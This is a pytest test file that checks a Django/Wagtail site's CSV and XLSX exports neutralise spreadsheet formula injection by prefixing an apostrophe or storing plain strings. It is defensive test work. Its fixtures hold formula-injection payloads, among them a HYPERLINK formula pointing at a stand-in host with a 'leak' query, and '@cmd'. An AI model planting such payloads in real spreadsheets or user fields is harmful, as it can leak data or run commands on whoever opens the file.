"""Every spreadsheet the site writes keeps what people typed as text.

A name, a title or a school typed as ``=HYPERLINK(...)``, ``+SUM(1)``, ``-2+3``
or ``@cmd`` goes through each real export URL (the administrators' reports,
Wagtail's own site history, the transcript); in a CSV the cell comes out with a
leading apostrophe, in an XLSX it is a plain string cell, never a formula.
"""

import csv
import datetime
import inspect
import io
from decimal import Decimal
from http import HTTPStatus

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from content.spreadsheets import FORMULA_STARTS, neutralise_formula
from courses.models import Assignment, ModuleProgress
from tests.clock import TODAY
from tests.page_factories import make_course
from workspace.models import CheckIn

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://x.example/?leak")'
SUM = "+SUM(1)"
SUM_OF_TWO = "-2+3"
COMMAND = "@cmd"

REPORTS = [
    "course_reports:completion",
    "course_reports:modules",
    "pair_reports:by_pair",
    "pair_reports:health",
]


@pytest.fixture
def hostile(district):
    """The pair's para is named like a formula, its teacher too, its school and the
    assigned course as well; the course's first module is under way."""
    para, teacher = district.para, district.teacher
    para.first_name, para.last_name = "", LINK
    para.save()
    teacher.first_name, teacher.last_name = SUM, "Jones"
    teacher.save()
    district.school.name = SUM_OF_TWO
    district.school.save()
    course = make_course(COMMAND, modules=2)
    first = course.get_children().specific().first()
    for person in (para, teacher):
        Assignment.objects.create(user=person, page=course, due_on=TODAY + datetime.timedelta(3))
    ModuleProgress.objects.create(user=para, module=first, started_at=timezone.now())
    CheckIn.objects.create(pair=district.pair, author=para, happened_on=TODAY, minutes=10, note=SUM)
    return district


def export(client, url_name: str, export_format: str) -> bytes:
    response = client.get(reverse(url_name), {"export": export_format})
    assert response.status_code == HTTPStatus.OK
    return b"".join(response.streaming_content)


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def expected_in(url_name: str) -> set[str]:
    """The hostile texts each report shows, with what else the cell holds."""
    course, module = COMMAND, f"{COMMAND}: module 1"
    return {
        "course_reports:completion": {LINK, f"{SUM} Jones", SUM_OF_TWO, course},
        "course_reports:modules": {module, course},
        "pair_reports:by_pair": {LINK, f"{SUM} Jones", SUM_OF_TWO, course},
        "pair_reports:health": {LINK, f"{SUM} Jones", SUM_OF_TWO},
    }[url_name]


@pytest.mark.parametrize("url_name", REPORTS)
def test_a_report_csv_prefixes_every_cell_that_starts_like_a_formula(client, hostile, url_name):
    client.force_login(hostile.school_admin)
    cells = csv_cells(export(client, url_name, "csv"))
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for text in expected_in(url_name):
        assert f"'{text}" in cells, text


@pytest.mark.parametrize("url_name", REPORTS)
def test_a_report_xlsx_keeps_formula_like_text_as_plain_strings(client, hostile, url_name):
    client.force_login(hostile.school_admin)
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, url_name, "xlsx"))).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    for text in expected_in(url_name):
        assert cells[text].data_type == "s", text
    assert not [cell for cell in cells.values() if cell.data_type == "f"]


def test_report_numbers_and_dates_stay_values_in_the_csv(client, hostile):
    client.force_login(hostile.school_admin)
    rows = list(
        csv.DictReader(
            io.StringIO(export(client, "course_reports:completion", "csv").decode("utf-8-sig"))
        )
    )
    para = next(row for row in rows if row["Person"] == f"'{LINK}")
    assert para["School"] == f"'{SUM_OF_TWO}"
    assert para["Progress (percent of modules complete)"] == "0"
    assert para["Due"] == (TODAY + datetime.timedelta(3)).isoformat()


def test_the_transcript_csv_prefixes_titles_that_start_like_a_formula(client, district):
    course = make_course(LINK, modules=1, audience="paras")
    module = course.get_children().specific().first()
    ModuleProgress.objects.create(
        user=district.para, module=module, read_at=timezone.now(), completed_at=timezone.now()
    )
    client.force_login(district.para)
    response = client.get(reverse("transcript_csv"))
    assert response.status_code == HTTPStatus.OK
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[3:5] for row in rows if row[2] == "Module"] == [[f"'{LINK}: module 1", f"'{LINK}"]]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize(
    "value, cell",
    [
        (LINK, f"'{LINK}"),
        (SUM, f"'{SUM}"),
        (SUM_OF_TWO, f"'{SUM_OF_TWO}"),
        (COMMAND, f"'{COMMAND}"),
        ("\tthen =1+1", "'\tthen =1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("Maple Elementary", "Maple Elementary"),
        ("Ana = Gabe", "Ana = Gabe"),
        ("", ""),
        (None, None),
        (-3, -3),
        (-0.5, -0.5),
        (Decimal("-1.25"), Decimal("-1.25")),
        (datetime.date(2026, 11, 18), datetime.date(2026, 11, 18)),
        (True, True),
    ],
)
def test_only_text_that_starts_like_a_formula_is_prefixed(value, cell):
    assert neutralise_formula(value) == cell
    assert type(neutralise_formula(value)) is type(cell)


def test_other_values_are_neutralised_as_the_text_csv_would_write():
    class Person:
        def __str__(self):
            return LINK

    assert neutralise_formula(Person()) == f"'{LINK}"


def test_wagtails_site_history_csv_prefixes_names_too(client, hostile):
    """Wagtail's own report lists who changed what: a person's name and the
    pair's, both typed by people."""
    log(hostile.pair, "wagtail.edit", user=hostile.para)
    client.force_login(hostile.school_admin)
    cells = csv_cells(export(client, "wagtailadmin_reports:site_history", "csv"))
    assert f"'{LINK}" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_wagtail_still_writes_each_csv_row_through_write_csv_row():
    """``content.spreadsheets`` wraps Wagtail's ``write_csv_row`` and hands it a
    writer: ``stream_csv`` must still write every row through that method, which
    must still write the row with ``writer.writerow``
    (wagtail/admin/views/mixins.py, SpreadsheetExportMixin)."""
    original = inspect.unwrap(SpreadsheetExportMixin.write_csv_row)
    assert SpreadsheetExportMixin.write_csv_row.neutralises_formulas
    assert list(inspect.signature(SpreadsheetExportMixin.write_csv_row).parameters) == [
        "self",
        "writer",
        "row_dict",
    ]
    assert "self.write_csv_row(writer" in inspect.getsource(SpreadsheetExportMixin.stream_csv)
    assert "writer.writerow(" in inspect.getsource(original)


UTF8_BOM = b"\xef\xbb\xbf"


@pytest.mark.parametrize("url_name", [*REPORTS, "privacy:pairs"])
def test_every_admin_csv_export_starts_with_the_utf8_byte_order_mark(client, hostile, url_name):
    """Excel reads a CSV without it in the machine's legacy code page: "2026–2027"
    would show as "2026â€“2027"."""
    client.force_login(hostile.district_admin)
    data = export(client, url_name, "csv")
    assert data.startswith(UTF8_BOM) and not data.startswith(UTF8_BOM * 2)
    assert data.decode("utf-8-sig").splitlines()[0][0].isalpha()  # the heading follows


def test_the_transcript_csv_starts_with_the_utf8_byte_order_mark(client, district):
    course = make_course("Stronger Together", modules=1, audience="paras")
    module = course.get_children().specific().first()
    ModuleProgress.objects.create(
        user=district.para, module=module, read_at=timezone.now(), completed_at=timezone.now()
    )
    client.force_login(district.para)
    data = client.get(reverse("transcript_csv")).content
    assert data.startswith(UTF8_BOM)
    assert "–" in data.decode("utf-8-sig")  # the school year, "2026–2027", as written
